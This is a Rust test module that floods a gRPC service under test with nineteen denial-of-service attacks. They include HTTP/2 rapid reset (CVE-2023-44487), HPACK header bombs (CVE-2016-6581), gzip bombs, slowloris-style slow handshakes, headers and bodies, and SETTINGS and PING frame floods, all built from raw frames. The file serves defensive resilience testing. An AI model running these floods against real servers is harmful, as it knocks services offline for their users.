//! What one that means ill may send. Each goes on until its time is over, and keeps what it holds as long.

use std::pin::Pin;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use covenant_client::{Client, Job, JobState};
use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::Instant;
use tonic::codegen::http;

use crate::common::job;
use crate::common::statements::CIRCUIT;
use crate::raw;
use crate::raw::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, Raw, SETTINGS,
    WINDOW_UPDATE, frame, headers, literal, prefix,
};
use crate::world::{CLAIM_BYTES, FLOOD, World};

type Attack = fn(Arc<World>, Instant) -> Pin<Box<dyn Future<Output = ()> + Send>>;

macro_rules! attacks {
    ($($name:ident),* $(,)?) => {
        /// All of them, by their names.
        pub(crate) const ATTACKS: &[(&str, Attack)] =
            &[$((stringify!($name), |world, until| Box::pin($name(world, until)))),*];
    };
}

attacks![
    submits,
    largest_claims,
    checks,
    watches,
    connections,
    silent_peers,
    slow_handshakes,
    slow_headers,
    slow_bodies,
    bodies_without_end,
    long_prefixes,
    compressed_bombs,
    long_headers,
    headers_by_reference,
    settings,
    pings,
    rapid_resets,
    small_frames,
    unread_answers,
];

const CHECK: &str = "/covenant.v1.Prover/Check";
const LIST: &str = "/covenant.v1.Prover/List";
/// Of streams on one connection.
const STREAMS: u32 = 64;
/// Connections of most attacks: more than are needed.
const SEVERAL: usize = 8;

/// Until the time is over, with a pause where the service has had enough: what floods is not to take the machine.
async fn repeat<F: Future<Output = bool>>(until: Instant, mut again: impl FnMut() -> F) {
    while Instant::now() < until {
        if !again().await {
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }
}

async fn clients(world: &World) -> Vec<Client> {
    let mut clients = Vec::new();
    for _ in 0..4 {
        clients.extend(world.connect(FLOOD).await);
    }
    clients
}

/// Calls from several connections, several at once on each.
async fn calls<F: Future<Output = bool> + Send + 'static>(
    world: Arc<World>,
    until: Instant,
    call: impl Fn(Client, u64) -> F + Clone + Send + Sync + 'static,
) {
    static NUMBER: AtomicU64 = AtomicU64::new(0);
    let mut all = JoinSet::new();
    for client in clients(&world).await {
        for _ in 0..8 {
            let (client, call) = (client.clone(), call.clone());
            all.spawn(async move {
                repeat(until, || call(client.clone(), NUMBER.fetch_add(1, Ordering::Relaxed))).await;
            });
        }
    }
    all.join_all().await;
}

async fn submits(world: Arc<World>, until: Instant) {
    calls(world, until, async |client, number| {
        let claim = format!("sleep 100 {}", "x".repeat(20_000));
        client.submit(job(&format!("flood-{number}"), &claim)).await.is_ok()
    })
    .await;
}

async fn largest_claims(world: Arc<World>, until: Instant) {
    calls(world, until, async |client, number| {
        let claim = format!("sleep 20 {}", "x".repeat(CLAIM_BYTES - 9));
        client.submit(job(&format!("large-{number}"), &claim)).await.is_ok()
    })
    .await;
}

async fn checks(world: Arc<World>, until: Instant) {
    calls(world, until, async |client, _| client.check(CIRCUIT, &[b'x'; 20_000]).await.is_ok()).await;
}

/// As many streams of events as there may be.
async fn watches(world: Arc<World>, until: Instant) {
    let held = world.client(FLOOD).await;
    let Ok(submitted) = held.submit(job("watched", "sleep 3000")).await else { return };
    let mut streams = JoinSet::new();
    for client in clients(&world).await {
        for _ in 0..STREAMS {
            let (client, id) = (client.clone(), submitted.job.id.clone());
            streams.spawn(async move {
                let mut watch = client.watch(&id, 0);
                let all = async { while let Ok(Some(_)) = watch.next().await {} };
                let _ = tokio::time::timeout_at(until, all).await;
            });
        }
    }
    streams.join_all().await;
    let _ = held.cancel(&submitted.job.id).await;
}

/// As many connections as are to be had.
async fn connections(world: Arc<World>, until: Instant) {
    let mut held = Vec::new();
    while Instant::now() < until {
        match Raw::connect(&world, &[]).await {
            Some(raw) => held.push(raw),
            None => tokio::time::sleep(Duration::from_millis(50)).await,
        }
    }
}

/// Connections on which nothing is ever said.
async fn silent_peers(world: Arc<World>, until: Instant) {
    let mut held = Vec::new();
    for _ in 0..400 {
        held.extend(TcpStream::connect(world.address()).await);
    }
    tokio::time::sleep_until(until).await;
}

/// Handshakes that never end: a record that says that it is long, a byte at a time.
async fn slow_handshakes(world: Arc<World>, until: Instant) {
    let mut all = JoinSet::new();
    for _ in 0..200 {
        let address = world.address();
        all.spawn(async move {
            let Ok(mut stream) = TcpStream::connect(address).await else { return };
            let _ = stream.write_all(&[0x16, 3, 1, 0x40, 0, 1, 0, 0x3f, 0xfc, 3, 3]).await;
            while Instant::now() < until && stream.write_all(&[7; 200]).await.is_ok() {
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        });
    }
    all.join_all().await;
}

/// On several connections at once, until the service has had enough of each; then on new ones.
async fn raws<F: Future<Output = ()> + Send + 'static>(
    world: Arc<World>,
    until: Instant,
    settings: &'static [(u16, u32)],
    speak: impl Fn(Raw, Instant) -> F + Clone + Send + 'static,
) {
    let mut all = JoinSet::new();
    for _ in 0..SEVERAL {
        let (world, speak) = (Arc::clone(&world), speak.clone());
        all.spawn(async move {
            while Instant::now() < until {
                if let Some(raw) = Raw::connect(&world, settings).await {
                    let _ = tokio::time::timeout_at(until, speak(raw, until)).await;
                }
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
        });
    }
    all.join_all().await;
}

/// Headers that go on and on, a byte at a time.
async fn slow_headers(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        let mut block = headers(CHECK);
        literal(&mut block, b"x-slow", &[b'x'; 100]);
        let mut sent = raw.send(&frame(HEADERS, 0, 1, &block[..1])).await;
        for byte in &block[1..] {
            if sent.is_err() || Instant::now() >= until {
                return;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
            sent = raw.send(&frame(CONTINUATION, 0, 1, &[*byte])).await;
        }
    })
    .await;
}

/// Claims on every stream, a byte at a time.
async fn slow_bodies(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        for stream in (1..2 * STREAMS).step_by(2) {
            let begun = prefix(false, CLAIM_BYTES as u32);
            if raw.call(stream, CHECK).await.is_err() || raw.data(stream, &begun).await.is_err() {
                return;
            }
        }
        while Instant::now() < until {
            for stream in (1..2 * STREAMS).step_by(2) {
                if raw.data(stream, &[1]).await.is_err() {
                    return;
                }
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    })
    .await;
}

/// Claims as long as they may be, all of each but its last byte, on every stream, as fast as the service takes them; held.
async fn bodies_without_end(world: Arc<World>, until: Instant) {
    let mut all = JoinSet::new();
    for _ in 0..SEVERAL {
        let world = Arc::clone(&world);
        all.spawn(async move {
            let Some(stream) = raw::dial(&world).await else { return };
            let Ok((mut calls, connection)) = h2::client::handshake(stream).await else { return };
            let connection = tokio::spawn(connection);
            let most = [prefix(false, CLAIM_BYTES as u32), vec![b'x'; CLAIM_BYTES - 1]].concat();
            let mut held = Vec::new();
            for _ in 0..STREAMS {
                let call = http::Request::post(format!("https://{}{CHECK}", world.address()))
                    .header("content-type", "application/grpc")
                    .header("te", "trailers");
                let Ok(mut ready) = calls.clone().ready().await else { break };
                let Ok((_, mut body)) = ready.send_request(call.body(()).unwrap(), false) else { break };
                let _ = body.send_data(most.clone().into(), false);
                held.push(body);
                calls = ready;
            }
            tokio::time::sleep_until(until).await;
            connection.abort();
        });
    }
    all.join_all().await;
}

async fn long_prefixes(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        for stream in (1..).step_by(2) {
            let length = if stream % 4 == 1 { u32::MAX } else { CLAIM_BYTES as u32 };
            let said = [prefix(false, length), vec![b'x'; 100]].concat();
            if Instant::now() >= until
                || raw.call(stream, CHECK).await.is_err()
                || raw.send(&frame(DATA, END_STREAM, stream, &said)).await.is_err()
            {
                return;
            }
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
    })
    .await;
}

/// Messages that say that they are compressed, of zeros that would unpack to a thousand times as many.
async fn compressed_bombs(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        // gzip's header and a block of deflate that repeats one byte, as far as it goes.
        let bomb = [&[0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 0xec, 0xc1][..], &[0; 8_000]].concat();
        for stream in (1..).step_by(2) {
            let mut block = headers(CHECK);
            literal(&mut block, b"grpc-encoding", b"gzip");
            let said = [prefix(true, bomb.len() as u32), bomb.clone()].concat();
            if Instant::now() >= until
                || raw.send(&frame(HEADERS, END_HEADERS, stream, &block)).await.is_err()
                || raw.send(&frame(DATA, END_STREAM, stream, &said)).await.is_err()
            {
                return;
            }
            tokio::time::sleep(Duration::from_millis(1)).await;
        }
    })
    .await;
}

/// Headers of megabytes, in continuations.
async fn long_headers(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        let mut sent = raw.send(&frame(HEADERS, 0, 1, &headers(CHECK))).await;
        let mut block = Vec::new();
        for _ in 0..120 {
            literal(&mut block, b"x-long-header", &[b'x'; 100]);
        }
        while sent.is_ok() && Instant::now() < until {
            sent = raw.send(&frame(CONTINUATION, 0, 1, &block)).await;
        }
    })
    .await;
}

/// A header of 3,000 bytes put into the table once, and named by one byte thousands of times (CVE-2016-6581 and its like).
async fn headers_by_reference(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        for stream in (1..).step_by(2) {
            let mut block = headers(CHECK);
            // With incremental indexing; a length of 3000 is 127 and 2873 in sevens of bits.
            block.extend([0x40, 6]);
            block.extend(b"x-bomb");
            block.extend([0x7f, 0xb9, 0x16]);
            block.extend([b'x'; 3000]);
            block.extend([0xbe; 12_000]);
            let sent = raw.send(&frame(HEADERS, END_HEADERS | END_STREAM, stream, &block)).await;
            if sent.is_err() || Instant::now() >= until {
                return;
            }
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    })
    .await;
}

/// Frames that want an answer, by the thousand, and nobody reads the answers.
async fn flood_of(world: Arc<World>, until: Instant, some: Vec<u8>) {
    raws(world, until, &[], move |mut raw, until| {
        let many = some.repeat(50);
        async move {
            while Instant::now() < until && raw.send(&many).await.is_ok() {
                tokio::time::sleep(Duration::from_millis(2)).await;
            }
        }
    })
    .await;
}

async fn settings(world: Arc<World>, until: Instant) {
    flood_of(world, until, frame(SETTINGS, 0, 0, &[0, 1, 0, 0, 16, 0])).await;
}

async fn pings(world: Arc<World>, until: Instant) {
    flood_of(world, until, frame(PING, 0, 0, &[7; 8])).await;
}

/// Calls that are begun and reset at once (CVE-2023-44487).
async fn rapid_resets(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        let mut stream = 1;
        loop {
            let mut many = Vec::new();
            for _ in 0..20 {
                many.extend(frame(HEADERS, END_HEADERS, stream, &headers(CHECK)));
                many.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
                stream += 2;
            }
            if Instant::now() >= until || raw.send(&many).await.is_err() {
                return;
            }
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    })
    .await;
}

/// Frames that hold nothing, or next to nothing.
async fn small_frames(world: Arc<World>, until: Instant) {
    raws(world, until, &[], async |mut raw, until| {
        raw.listen();
        if raw.call(1, CHECK).await.is_err() {
            return;
        }
        let one = [
            frame(DATA, 0, 1, &[]),
            frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1]),
            frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]),
        ];
        let many = one.concat().repeat(50);
        while Instant::now() < until && raw.send(&many).await.is_ok() {
            tokio::time::sleep(Duration::from_millis(2)).await;
        }
    })
    .await;
}

/// Lists as long as they come, which nobody reads: the windows of their streams are empty (SETTINGS_INITIAL_WINDOW_SIZE, 4).
async fn unread_answers(world: Arc<World>, until: Instant) {
    raws(world, until, &[(4, 0)], async |mut raw, until| {
        raw.listen();
        // `page_size: 500`.
        let list = [prefix(false, 3), vec![0x08, 0xf4, 0x03]].concat();
        for stream in (1..2 * STREAMS).step_by(2) {
            let called = raw.call(stream, LIST).await;
            if called.is_err() || raw.send(&frame(DATA, END_STREAM, stream, &list)).await.is_err() {
                return;
            }
        }
        tokio::time::sleep_until(until).await;
    })
    .await;
}

/// Those that together are a flood of all that the service has but its processor, which who floods here needs too. Slow bodies are left out: they would take
/// the places of the calls that make jobs, which are the one tenant's own.
pub(crate) const TOGETHER: [&str; 5] = ["submits", "watches", "connections", "silent_peers", "slow_headers"];

/// Ends what was flooded with, as far as it has not ended.
pub(crate) async fn cancel_all(world: &World) {
    let client = world.client(FLOOD).await;
    for state in [JobState::Queued, JobState::Running] {
        for listed in listed(&client, state).await {
            let _ = client.cancel(&listed.id).await;
        }
    }
}

/// Its last jobs in a state.
pub(crate) async fn listed(client: &Client, state: JobState) -> Vec<Job> {
    loop {
        match client.list(Some(state), 500, None).await {
            Ok(page) => return page.jobs,
            // Calls of the flood are just ending.
            Err(error) => assert_eq!(error.code, "request/too-many"),
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}
